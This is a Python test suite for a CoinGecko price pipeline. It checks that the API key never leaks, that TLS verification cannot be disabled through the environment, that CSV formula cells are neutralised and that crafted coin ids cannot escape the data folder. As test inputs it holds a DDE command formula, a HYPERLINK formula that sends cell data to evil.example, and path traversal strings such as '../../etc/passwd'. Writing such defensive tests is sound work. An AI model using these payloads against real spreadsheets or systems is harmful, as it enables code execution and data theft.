"""Security: the API key stays secret, TLS stays verified, formulas stay text, paths stay in the data folder."""

from __future__ import annotations

import copy
import gzip
import json
import os
import shutil
import ssl
import subprocess
import tempfile
import unittest
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path
from unittest import mock

from lambdas.wiring import make_client
from tests.fake_coingecko import (
    DEFAULT_COINS_FIXTURE,
    FakeCoinGecko,
    Fault,
    load_fixture,
    make_daily_chart,
    markets_rows,
)
from tests.support import FIXTURE_IDS, CliResult, PipelineTestCase
from utils.coingecko.client import PRO_URL, PUBLIC_URL, CoinGeckoClient
from utils.settings import build_settings

SECRET = "CG-SECRETKEY-1234567890"
DEMO_HEADER = "x-cg-demo-api-key"
REAL = load_fixture(DEFAULT_COINS_FIXTURE)
# Set in a user's shell by accident (an old proxy howto, a CI template): none may turn verification off.
CA_ACCIDENTS = {"CURL_CA_BUNDLE": "", "REQUESTS_CA_BUNDLE": "", "PYTHONHTTPSVERIFY": "0"}


def file_texts(root: Path) -> dict[Path, bytes]:
    """Every file under root, gzip files decompressed."""
    found = {}
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            if path.name.endswith(".gz"):
                data = gzip.decompress(data)
            found[path] = data
    return found


def tree(root: Path, skip: Path | None = None) -> set[str]:
    """Every path under root, relative, leaving out skip and what lies below it."""
    out = set()
    for path in root.rglob("*"):
        if skip is not None and (path == skip or skip in path.parents):
            continue
        out.add(str(path.relative_to(root)))
    return out


def last_line(result: CliResult) -> str:
    lines = result.stderr.strip().splitlines()
    return lines[-1] if lines else ""


class KeyTestCase(PipelineTestCase):
    """The key in the environment, the fake requiring it as a Demo key, a log file beside the data."""

    def setUp(self) -> None:
        super().setUp()
        self.fake.required_key = (DEMO_HEADER, SECRET)
        self.env["COINGECKO_API_KEY"] = SECRET
        self.log_file = Path(self.tmp.name) / "pipeline.log"
        self.outputs: list[tuple[str, CliResult]] = []

    def reset(self) -> None:
        """An empty data folder, no log file, no recorded output or request: the next subtest stands alone."""
        shutil.rmtree(self.data_dir)
        self.data_dir.mkdir()
        self.log_file.unlink(missing_ok=True)
        self.outputs = []
        self.fake.clear_faults()
        self.fake.requests.clear()

    def run_logged(self, *argv: str, env: dict[str, str] | None = None) -> CliResult:
        result = self.run_main(*argv, env=env)
        self.outputs.append((argv[0], result))
        return result

    def assert_secret_nowhere(self, secret: str = SECRET) -> None:
        """Not on stdout or stderr of any command, in no file of the temp folder, in no request's URL."""
        leaks = [
            f"{stream} of `{command}`"
            for command, result in self.outputs
            for stream, text in (("stdout", result.stdout), ("stderr", result.stderr))
            if secret in text
        ]
        leaks += [
            str(path.relative_to(self.tmp.name))
            for path, data in file_texts(Path(self.tmp.name)).items()
            if secret.encode() in data
        ]
        leaks += [f"URL {r.raw_path}" for r in self.fake.requests if secret.lower() in r.raw_path.lower()]
        self.assertEqual(leaks, [], "the API key appears here")


class KeyNeverAppears(KeyTestCase):
    def test_every_command_at_every_log_level(self) -> None:
        self.fake.market_chart.update(
            {
                coin: make_daily_chart(datetime.now(timezone.utc).date() - timedelta(days=9), 10, 100.0 + i)
                for i, coin in enumerate(FIXTURE_IDS)
            }
        )
        for level in ((), ("-q",), ("-v",), ("-vv",)):
            with self.subTest(level=level):
                self.fake.advance(60)
                run = self.run_logged("run", *level, "--log-file", str(self.log_file))
                self.assertEqual(run.code, 0, run.stderr)
                backfill = self.run_logged(
                    "backfill", *level, "--days", "3", "--coins", "bitcoin", "--log-file", str(self.log_file)
                )
                self.assertEqual(backfill.code, 0, backfill.stderr)
                self.assertEqual(self.run_logged("status", *level).code, 0)
                check = self.run_logged("check", *level)
                self.assertEqual(check.code, 0, check.stdout)
                if level == ("-vv",):  # urllib3's own debug lines are on, and still hold no key
                    self.assertIn("Starting new HTTP connection", run.stderr)
                    self.assertIn("GET /api/v3/coins/markets?", run.stderr)
        self.assertTrue(self.log_file.read_text())
        self.assertTrue(list((self.data_dir / "raw").rglob("*.json.gz")))
        self.assertTrue(list((self.data_dir / ".state").iterdir()))
        # The key did travel, in the header only.
        self.assertTrue(self.fake.requests)
        self.assertTrue(all(r.headers.get(DEMO_HEADER) == SECRET for r in self.fake.requests))
        self.assert_secret_nowhere()

    def test_the_key_given_as_a_flag(self) -> None:
        env = {k: v for k, v in self.env.items() if k != "COINGECKO_API_KEY"}
        result = self.run_logged("-vv", "--api-key", SECRET, "--log-file", str(self.log_file), env=env)
        self.assertEqual(result.code, 0, result.stderr)
        self.assertEqual(self.fake.requests[0].headers.get(DEMO_HEADER), SECRET)
        self.run_logged("status", "--api-key", SECRET, env=env)
        self.run_logged("check", "-vv", "--api-key", SECRET, env=env)
        self.assert_secret_nowhere()

    def exercise(self, faults: Callable[[], list[Fault]], env: dict[str, str] | None = None) -> None:
        """run, backfill and check each meet the faults first; status shows what was recorded."""
        env = env or self.env
        commands = (
            ("run", "-vv", "--log-file", str(self.log_file)),
            ("backfill", "-vv", "--days", "3", "--log-file", str(self.log_file)),
            ("status", "-vv"),
            ("check", "-vv"),
        )
        for argv in commands:
            self.fake.clear_faults()
            for fault in faults():
                self.fake.add_fault(fault)
            result = self.run_logged(*argv, env=env)
            self.assertNotIn("Traceback", result.stderr)
            if argv[0] in ("run", "backfill"):
                self.assertIn(result.code, (1, 2), result.stderr)
                self.assertTrue(last_line(result).startswith(f"{argv[0]} failed: "), result.stderr)

    def test_error_answers_never_show_the_key(self) -> None:
        answers: dict[str, Callable[[], list[Fault]]] = {
            "401 with error 10002": lambda: [Fault.error_body("missing_api_key_10002")],
            "400 with error 10010": lambda: [Fault.error_body("pro_key_on_public_host_10010_from_test_stub")],
            "400 with error 10011": lambda: [Fault.error_body("demo_key_on_pro_host_10011")],
            "401 without a body": lambda: [Fault.status(401, b"")],
            "Cloudflare HTML 403": lambda: [Fault.html(403)],
            "Cloudflare HTML 200": lambda: [Fault.html(200, challenge=True)],
            "5xx storm": lambda: [Fault.server_error(503, text=True)] * 8,
        }
        for name, faults in answers.items():
            with self.subTest(answer=name):
                self.reset()
                self.exercise(faults)
                self.assert_secret_nowhere()

    def test_a_server_that_echoes_the_key_back(self) -> None:
        """A proxy or a changed API may quote the key in its error message: it must be blanked everywhere."""
        quoted = f"API key {SECRET} is not valid"
        answers: dict[str, Callable[[], list[Fault]]] = {
            "401 quoting the key": lambda: [
                Fault.status(401, {"status": {"error_code": 10002, "error_message": quoted}})
            ],
            "400 quoting the key": lambda: [Fault.status(400, {"error": quoted})],
            "503 storm quoting the key": lambda: [Fault.status(503, {"status": {"error_message": quoted}})] * 8,
            "HTML page quoting the key": lambda: [
                Fault.status(403, f"<html><body>{quoted}</body></html>", {"content-type": "text/html"})
            ],
        }
        for name, faults in answers.items():
            with self.subTest(answer=name):
                self.reset()
                self.exercise(faults)
                self.assert_secret_nowhere()
        self.reset()
        with self.subTest(answer="401 quoting a key that came from a config file"):
            elsewhere = Path(tempfile.mkdtemp())  # the user's own config file holds the key: not scanned
            self.addCleanup(shutil.rmtree, elsewhere, True)
            config = elsewhere / "pipeline.toml"
            config.write_text(f'api_key = "{SECRET}"\n')
            env = {k: v for k, v in self.env.items() if k != "COINGECKO_API_KEY"}
            env["PIPELINE_CONFIG"] = str(config)
            self.fake.clear_faults()
            self.fake.add_fault(answers["401 quoting the key"]()[0])
            result = self.run_logged("run", "-vv", env=env)
            self.assertEqual(result.code, 2, result.stderr)
            self.assert_secret_nowhere()


class SelfSignedServer:
    """The fake CoinGecko behind TLS with a self-signed certificate for 127.0.0.1."""

    def __init__(self, folder: Path) -> None:
        self.cert, self.key = folder / "cert.pem", folder / "key.pem"
        subprocess.run(
            [
                "openssl",
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-keyout",
                str(self.key),
                "-out",
                str(self.cert),
                "-days",
                "2",
                "-subj",
                "/CN=127.0.0.1",
                "-addext",
                "subjectAltName=IP:127.0.0.1",
            ],
            check=True,
            capture_output=True,
            timeout=60,
        )
        self.fake = FakeCoinGecko().start()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.cert, self.key)
        server = self.fake._server
        server.socket = context.wrap_socket(server.socket, server_side=True)  # same descriptor, now TLS
        self.url = self.fake.base_url.replace("http://", "https://")

    def stop(self) -> None:
        self.fake.stop()


class TlsVerification(PipelineTestCase):
    def test_the_environment_cannot_turn_verification_off(self) -> None:
        with mock.patch.dict(os.environ, CA_ACCIDENTS):
            clients = [
                CoinGeckoClient(PUBLIC_URL),
                CoinGeckoClient(PRO_URL, plan="pro", api_key=SECRET),
                make_client(build_settings("run", {}, dict(CA_ACCIDENTS, COINGECKO_API_KEY=SECRET))),
            ]
            for client in clients:
                with self.subTest(url=client.base_url, plan=client.plan):
                    self.assertIs(client.session.verify, True)
                    for url in (client.base_url + "/coins/markets", "https://api.coingecko.com/api/v3/ping"):
                        verify = client.session.merge_environment_settings(url, {}, None, None, None)["verify"]
                        self.assertTrue(
                            verify is True or (isinstance(verify, str) and os.path.exists(verify)),
                            f"verify became {verify!r}",
                        )
                client.close()

    @unittest.skipUnless(shutil.which("openssl"), "needs the openssl command to make a self-signed certificate")
    def test_a_self_signed_server_is_refused(self) -> None:
        server = SelfSignedServer(Path(self.tmp.name))
        self.addCleanup(server.stop)
        env = dict(self.env, COINGECKO_API_URL=server.url, **CA_ACCIDENTS)
        result = self.run_subprocess("--max-retry-wait", "0", env=env)
        self.assertEqual(result.code, 1, result.stderr)
        self.assertNotIn("Traceback", result.stderr)
        self.assertTrue(last_line(result).startswith("run failed: "), result.stderr)
        self.assertIn("certificate verify failed", last_line(result))
        self.assertFalse(self.csv_path.exists())
        check = self.run_subprocess("check", "--max-retry-wait", "0", env=env)
        self.assertEqual(check.code, 1, check.stdout)
        self.assertIn("FAIL  connectivity", check.stdout)
        self.assertIn("certificate verify failed", check.stdout)
        self.assertEqual(server.fake.requests, [], "an HTTP request got through an unverified connection")
        # The same server with its certificate trusted on purpose works: the refusal was verification's.
        trusted = dict(env, REQUESTS_CA_BUNDLE=str(server.cert))
        ok = self.run_subprocess("--coins", "bitcoin", env=trusted)
        self.assertEqual(ok.code, 0, ok.stderr)
        self.assertEqual([r["coin_id"] for r in self.rows()], ["bitcoin"])


class SpreadsheetFormulas(PipelineTestCase):
    # (name as CoinGecko sends it, the cell a spreadsheet must show as text)
    NAMES = (
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+2", "'=1+2"),
        ("\r=1+2", "'=1+2"),
        ("\n=1+2", "'=1+2"),
        (" =1+2", "'=1+2"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://evil.example/?"&A1,"Bitcoin")', '\'=HYPERLINK("http://evil.example/?"&A1,"Bitcoin")'),
    )

    def test_formula_names_and_symbols_are_stored_as_text(self) -> None:
        rows = copy.deepcopy(REAL)
        for row, (name, _) in zip(rows, self.NAMES):
            row["name"] = row["symbol"] = name
        self.fake.set_coins(rows)
        result = self.run_main()
        self.assertEqual(result.code, 0, result.stderr)
        stored = {r["coin_id"]: r for r in self.rows()}
        for row, (name, expected) in zip(rows, self.NAMES):
            with self.subTest(name=name):
                self.assertEqual(stored[row["id"]]["name"], expected)
                self.assertEqual(stored[row["id"]]["symbol"], expected)
        for cells in stored.values():
            for column in ("name", "symbol"):
                self.assertFalse(cells[column].startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cells[column])
        self.assertNotIn(b"\r", self.csv_bytes())
        self.assertEqual(self.csv_bytes().count(b"\n"), 1 + len(rows))

    def test_ordinary_names_are_left_alone(self) -> None:
        rows = copy.deepcopy(REAL[:3])
        for row, name in zip(rows, ("Bitcoin", "A=B", "Lido Staked Ether")):
            row["name"] = name
        self.fake.set_coins(rows)
        self.assertEqual(self.run_main("--coins", ",".join(r["id"] for r in rows)).code, 0)
        self.assertEqual([r["name"] for r in self.rows()], ["Bitcoin", "A=B", "Lido Staked Ether"])


class PathsStayInTheDataFolder(PipelineTestCase):
    """Crafted coin ids, from the user or the API, never name a file outside the data folder."""

    CRAFTED = (
        "../../etc/passwd",
        "..",
        ".",
        "a/b",
        "%2e%2e",
        "..%2f..%2fx",
        "bitcoin/../../x",
        "/etc/passwd",
        "\\..\\x",
        "bit\x00coin",
        "~root",
        ".hidden",
        "bitcoin,../x",
    )

    def setUp(self) -> None:
        super().setUp()
        # Deep enough that ../ a few times over from any file we write still lands inside the temp folder.
        self.root = Path(self.tmp.name)
        self.data_dir = self.root / "d1" / "d2" / "d3" / "d4" / "d5" / "data"
        self.data_dir.mkdir(parents=True)
        self.csv_path = self.data_dir / "crypto_data.csv"
        self.env["PIPELINE_DATA_DIR"] = str(self.data_dir)

    def outside(self) -> set[str]:
        return tree(self.root, skip=self.data_dir)

    def test_crafted_ids_are_refused_before_any_request(self) -> None:
        before = self.outside()
        config = self.root / "coins.toml"
        for coin in self.CRAFTED:
            for command in ("run", "backfill", "check"):
                for where in ("flag", "environment", "config file"):
                    with self.subTest(coin=coin, command=command, where=where):
                        env = dict(self.env)
                        argv = [command]
                        if where == "flag":
                            argv += ["--coins", coin]
                        elif where == "environment":
                            env["PIPELINE_COINS"] = coin
                        else:
                            env.pop("PIPELINE_COINS")
                            # JSON strings are valid TOML basic strings, escapes included.
                            config.write_text(f"coins = [{', '.join(json.dumps(c) for c in coin.split(','))}]\n")
                            argv += ["--config", str(config)]
                        result = self.run_main(*argv, env=env)
                        self.assertEqual(result.code, 2, result.stderr)
                        self.assertEqual(len(result.stderr.strip().splitlines()), 1, result.stderr)
                        self.assertTrue(last_line(result).startswith("config error: coins: "), result.stderr)
                        self.assertEqual(self.fake.requests, [])
                        config.unlink(missing_ok=True)
                        self.assertEqual(self.outside(), before)
                        self.assertEqual(tree(self.data_dir), set())

    def test_crafted_currency_is_refused(self) -> None:
        for currency in ("../x", "eur/..", "..", "e u r"):
            with self.subTest(currency=currency):
                result = self.run_main("--vs-currency", currency)
                self.assertEqual(result.code, 2, result.stderr)
                self.assertEqual(self.fake.requests, [])
        self.assertEqual(tree(self.data_dir), set())

    def test_ids_from_the_api_that_are_paths_are_rejected(self) -> None:
        before = self.outside()
        rows = copy.deepcopy(REAL)
        crafted = ("../../x", "..", "a/b", "../" * 12 + "tmp/evil", "/etc/passwd", "bitcoin/../ethereum")
        for bad in crafted:
            rows.append(dict(rows[0], id=bad, name="Evil"))
        self.fake.add_fault(Fault.status(200, rows), path="/coins/markets")
        result = self.run_main()
        self.assertEqual(result.code, 0, result.stderr)  # every requested coin landed: junk beside them is not partial
        for bad in crafted:
            self.assertIn(f"rejected {bad}: id {bad[:40]!r} is not a valid CoinGecko id", result.stderr)
        self.assertEqual([r["coin_id"] for r in self.rows()], list(FIXTURE_IDS))
        self.assertEqual(self.outside(), before)
        self.assertFalse([p for p in self.data_dir.rglob("*") if "evil" in p.name or p.name == "x"])

    def test_a_dotted_id_the_rules_allow_stays_inside(self) -> None:
        """'a..b' is a valid id shape: it may only ever be part of a file name, never a path step."""
        before = self.outside()
        now = datetime.now(timezone.utc)
        rows = markets_rows(1, start=now - timedelta(hours=1))
        self.fake.set_coins(rows)
        self.fake.market_chart[rows[0]["id"]] = make_daily_chart(now.date() - timedelta(days=9), 10, 5.0)
        coins = f"{rows[0]['id']},a..b,b..,c.-."
        result = self.run_main("backfill", "--days", "3", "--coins", coins)
        self.assertEqual(result.code, 3, result.stderr)
        self.assertIn("3 unknown (a..b, b.., c.-.)", result.stderr)
        asked = sorted(r.path for r in self.fake.requests)
        self.assertIn("/coins/a..b/market_chart/range", asked)
        self.assertIn("/coins/b../market_chart/range", asked)
        self.assertEqual(self.outside(), before)
        self.assertEqual(self.run_main("--coins", coins).code, 3)
        self.assertEqual(self.outside(), before)


if __name__ == "__main__":
    unittest.main()
